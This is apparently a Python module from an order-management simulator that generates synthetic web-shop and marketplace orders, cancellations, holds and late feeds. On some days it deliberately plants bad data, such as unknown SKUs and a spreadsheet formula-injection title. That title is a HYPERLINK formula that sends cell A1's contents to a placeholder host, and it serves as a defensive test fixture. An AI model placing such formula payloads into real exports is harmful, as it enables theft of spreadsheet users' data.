"""Orders of the web shop and the marketplace: placed, held, released, cancelled.

Belongs here: what customers and the two channels do with their orders on a day.
Does not belong here: shipping (`shipping`), tills (`store_sales`).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import numpy as np

from oms_core.arrays import Ints
from oms_core.twin.book import MARKETPLACE_FEED, SHOPIFY, DayBook, LateFile, decimal_text
from oms_core.twin.demand import PROMOTION_DISCOUNT_PERCENT, DayDemand
from oms_core.twin.network import MARKETPLACE, WEB, Network
from oms_core.twin.state import NEVER, NetworkState, OpenLine, OpenOrder, Wire, line_key
from oms_core.twin.streams import Stream, stream
from oms_core.twin.wire import included_tax, marketplace_row, shopify_cancelled, shopify_line, shopify_order

_CANCEL_SHARE = 0.02
_HOLD_SHARE = 0.03
_HOLD_CANCEL_SHARE = 0.25
_PATIENCE_DAYS = 14
_IMPATIENT_SHARE = 0.05
_FIRST_SECOND, _LAST_SECOND = 6 * 3600, 21 * 3600
#: Hostile titles: a spreadsheet would run them. They are valid text and must survive as text.
_FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?q="&A1,"Your parcel")'
_FORMULA_EVERY_DAYS, _UNKNOWN_EVERY_DAYS, _LATE_EVERY_DAYS = 11, 10, 9
_UNKNOWN_SKU = "NO-SUCH-SKU"


@dataclass(frozen=True)
class Basket:
    """One order about to be placed: when, by whom, what."""

    second: int
    customer: int
    region: int
    skus: list[int]
    quantities: list[int]


def baskets(network: Network, demand: DayDemand, channel: str, ordinal: int) -> Iterator[Basket]:
    """Group a day's wanted lines of a channel into orders, by time."""
    cells = [i for i, cell in enumerate(network.cells) if cell.channel == channel]
    rng = stream(network.spec.seed, Stream.ORDERS, ordinal, cells[0])
    mine = np.flatnonzero(np.isin(demand.cell, cells))
    mine = mine[np.argsort(demand.cell[mine], kind="stable")]
    cell = demand.cell[mine]
    starts = rng.random(len(mine)) < 0.55
    starts[np.flatnonzero(np.diff(cell, prepend=-1))] = True
    bounds = [*np.flatnonzero(starts).tolist(), len(mine)]
    seconds = rng.integers(_FIRST_SECOND, _LAST_SECOND, len(bounds))
    customers = customer_numbers(network, rng, len(bounds))
    for n in np.argsort(seconds[:-1], kind="stable").tolist():
        lines: Ints = mine[bounds[n] : bounds[n + 1]]
        region = network.cells[int(cell[bounds[n]])].region
        yield Basket(
            int(seconds[n]), int(customers[n]), region, demand.sku[lines].tolist(), demand.quantity[lines].tolist()
        )


def customer_numbers(network: Network, rng: np.random.Generator, count: int) -> Ints:
    """Customers: few buy often, most seldom."""
    pool = max(100, int(network.spec.lines_per_day * 20))
    return np.asarray((pool * rng.random(count) ** 2).astype(np.int64) + 1)


def discount_of(price_minor: int, quantity: int, promoted: bool) -> int:
    """Discount of a line in minor units."""
    return price_minor * quantity * PROMOTION_DISCOUNT_PERCENT // 100 if promoted else 0


def place_web_orders(network: Network, state: NetworkState, demand: DayDemand, book: DayBook) -> None:
    """Place the day's web orders. Some will be cancelled tomorrow, and on some days a fifth reach us late."""
    clock, spec = book.clock, network.spec
    rng = stream(spec.seed, Stream.ORDERS, clock.ordinal, 10**6)
    is_late_day = spec.has_dirt and clock.ordinal % _LATE_EVERY_DAYS == spec.seed % _LATE_EVERY_DAYS
    arrival = clock.ordinal + int(rng.integers(3, 9))
    held_back: list[Wire] = []
    for position, basket in enumerate(baskets(network, demand, WEB, clock.ordinal)):
        cancels, is_late = rng.random() < _CANCEL_SHARE, is_late_day and position % 5 == 0
        order = _web_order(network, state, demand, basket, book)
        ready = clock.ordinal + 1 if not is_late else arrival + 1
        if cancels and not is_late:
            state.plan(clock.ordinal + 1, "cancel", key=line_key(WEB, str(order["id"])), reason="customer")
            ready = NEVER
        _open_web_lines(state, order, basket, clock.ordinal, ready)
        (held_back if is_late else book.shopify).append(order)
    if spec.has_dirt and clock.ordinal % _UNKNOWN_EVERY_DAYS == spec.seed % _UNKNOWN_EVERY_DAYS:
        _place_unknown_sku(network, state, book)
    if held_back:
        state.plan(arrival, "late", feed=SHOPIFY, business_day=clock.iso, records=held_back)


def _web_order(network: Network, state: NetworkState, demand: DayDemand, basket: Basket, book: DayBook) -> Wire:
    items, lines = network.items, []
    for sku, quantity in zip(basket.skus, basket.quantities, strict=True):
        price = int(items.unit_price_minor[sku])
        discount = discount_of(price, quantity, bool(demand.is_promoted[sku]))
        line_id = state.next_number("web_line", 9_000_000_001)
        lines.append(shopify_line(line_id, items.skus[sku], items.titles[sku], quantity, price, discount))
    number = state.next_number("web_order", 1001)
    book.order_line_count += len(lines)
    place = (network.spec.country, network.regions[basket.region])
    at = book.clock.at(basket.second)
    order = shopify_order(5_000_000_000 + number, number, at, basket.customer, place, network.spec.currency, lines)
    _plant_formula(network, state, book, order)
    return order


def _plant_formula(network: Network, state: NetworkState, book: DayBook, order: Wire) -> None:
    ordinal, seed = book.clock.ordinal, network.spec.seed
    due = network.spec.has_dirt and ordinal % _FORMULA_EVERY_DAYS == seed % _FORMULA_EVERY_DAYS
    if not due or state.counters.get("formula_day") == ordinal:
        return
    state.counters["formula_day"] = ordinal
    line = order["line_items"][0]
    line["title"] = _FORMULA_TITLE
    planted = {"feed": SHOPIFY, "business_day": book.clock.iso, "text": _FORMULA_TITLE}
    book.dirt.append({"kind": "formula_text", **planted, "order_ref": str(order["id"]), "line_ref": str(line["id"])})


def _open_web_lines(state: NetworkState, order: Wire, basket: Basket, ordinal: int, ready: int) -> None:
    ref = str(order["id"])
    keys = []
    pairs = zip(order["line_items"], basket.skus, strict=True)
    for line, sku in pairs:
        key = line_key(WEB, str(line["id"]))
        keys.append(key)
        held = OpenLine(WEB, ref, str(line["id"]), sku, basket.region, line["quantity"], ordinal, ready)
        state.open_lines[key] = held
    state.open_orders[line_key(WEB, ref)] = OpenOrder(order, keys)


def _place_unknown_sku(network: Network, state: NetworkState, book: DayBook) -> None:
    number = state.next_number("web_order", 1001)
    line = shopify_line(state.next_number("web_line", 9_000_000_001), _UNKNOWN_SKU, "Not in the assortment", 1, 999, 0)
    place, at = (network.spec.country, network.regions[0]), book.clock.at(_LAST_SECOND)
    order = shopify_order(5_000_000_000 + number, number, at, 1, place, network.spec.currency, [line])
    _open_web_lines(state, order, Basket(_LAST_SECOND, 1, 0, [-1], [1]), book.clock.ordinal, NEVER)
    book.shopify.append(order)
    book.order_line_count += 1
    facts = {"feed": SHOPIFY, "business_day": book.clock.iso, "sku": _UNKNOWN_SKU}
    book.dirt.append({"kind": "unknown_sku", **facts, "order_ref": str(order["id"]), "line_ref": str(line["id"])})


def place_marketplace_orders(network: Network, state: NetworkState, demand: DayDemand, book: DayBook) -> None:
    """Place the day's marketplace orders, one row an item. Some are on hold for a day or two."""
    rng = stream(network.spec.seed, Stream.ORDERS, book.clock.ordinal, 10**6 + 1)
    for basket in baskets(network, demand, MARKETPLACE, book.clock.ordinal):
        order_ref = f"MP-{state.next_number('marketplace_order', 100001)}"
        order = OpenOrder({}, [])
        state.open_orders[line_key(MARKETPLACE, order_ref)] = order
        for sku, quantity in zip(basket.skus, basket.quantities, strict=True):
            is_held = bool(rng.random() < _HOLD_SHARE)
            wire = _marketplace_item(network, state, demand, basket, (sku, quantity), order_ref, is_held, book)
            key = line_key(MARKETPLACE, wire["item_id"])
            ready = NEVER if is_held else book.clock.ordinal + 1
            state.open_lines[key] = OpenLine(
                MARKETPLACE, order_ref, wire["item_id"], sku, basket.region, quantity, book.clock.ordinal, ready
            )
            order.open_lines.append(key)
            order.wire[key] = wire
            if is_held:
                outcome = "cancelled" if rng.random() < _HOLD_CANCEL_SHARE else "new"
                state.plan(book.clock.ordinal + int(rng.integers(1, 4)), "release", key=key, outcome=outcome)
            book.add(MARKETPLACE_FEED, marketplace_row(wire))


def _marketplace_item(
    network: Network, state: NetworkState, demand: DayDemand, basket: Basket, wanted: tuple[int, int], order_ref: str,
    is_held: bool, book: DayBook,
) -> dict[str, str]:  # fmt: skip
    sku, quantity = wanted
    price = int(network.items.unit_price_minor[sku])
    discount = discount_of(price, quantity, bool(demand.is_promoted[sku]))
    at = book.clock.at(basket.second)
    book.order_line_count += 1
    return {
        "order_id": order_ref,
        "item_id": f"MI-{state.next_number('marketplace_item', 500001)}",
        "status": "on_hold" if is_held else "new",
        "purchased_at": at,
        "sku": network.items.skus[sku],
        "title": network.items.titles[sku],
        "quantity": str(quantity),
        "item_price": decimal_text(price),
        "promo_discount": decimal_text(discount),
        "item_tax": decimal_text(included_tax(price * quantity - discount)),
        "currency": network.spec.currency,
        "buyer_id": f"B{basket.customer:06d}",
        "ship_country": network.spec.country,
        "ship_region": network.regions[basket.region],
        "last_change_at": at,
    }


def change_orders(network: Network, state: NetworkState, book: DayBook) -> None:
    """What channels change in earlier orders: cancellations, releases from hold, late arrivals."""
    _lose_patience(network, state, book)
    for entry in state.due(book.clock.ordinal, "cancel"):
        _cancel_web_order(state, book, entry["key"], entry["reason"])
    for entry in state.due(book.clock.ordinal, "release"):
        if entry["key"] in state.open_lines:
            _change_item(state, book, state.open_lines[entry["key"]], entry["outcome"])
    for entry in state.due(book.clock.ordinal, "late"):
        book.late.append(LateFile(entry["feed"], entry["business_day"], entry["records"]))


def _lose_patience(network: Network, state: NetworkState, book: DayBook) -> None:
    """Customers who have waited two weeks begin to give up."""
    rng = stream(network.spec.seed, Stream.PATIENCE, book.clock.ordinal)
    waiting = [line for line in state.open_lines.values() if book.clock.ordinal - line.placed >= _PATIENCE_DAYS]
    leaving = rng.random(len(waiting)) < _IMPATIENT_SHARE
    for line, leaves in zip(waiting, leaving.tolist(), strict=True):
        key = line_key(line.channel, line.line_ref)
        if not leaves or key not in state.open_lines:
            continue
        if line.channel == WEB:
            _cancel_web_order(state, book, line_key(WEB, line.order_ref), "customer")
        else:
            _change_item(state, book, line, "cancelled")


def _cancel_web_order(state: NetworkState, book: DayBook, key: str, reason: str) -> None:
    """Cancel an order, unless part of it has left: the shop refuses that."""
    order = state.open_orders.get(key)
    if order is None or order.has_shipped:
        return
    book.shopify.append(shopify_cancelled(order.wire, book.clock.at(_LAST_SECOND + 600), reason))
    for line in [state.open_lines[held] for held in order.open_lines]:
        state.close_line(line, shipped=False)


def _change_item(state: NetworkState, book: DayBook, line: OpenLine, status: str) -> None:
    key = line_key(MARKETPLACE, line.line_ref)
    order = state.open_orders[line_key(MARKETPLACE, line.order_ref)]
    wire = {**order.wire[key], "status": status, "last_change_at": book.clock.at(_LAST_SECOND + 900)}
    order.wire[key] = wire
    book.add(MARKETPLACE_FEED, marketplace_row(wire))
    if status == "cancelled":
        state.close_line(line, shipped=False)
    else:
        line.ready = book.clock.ordinal + 1
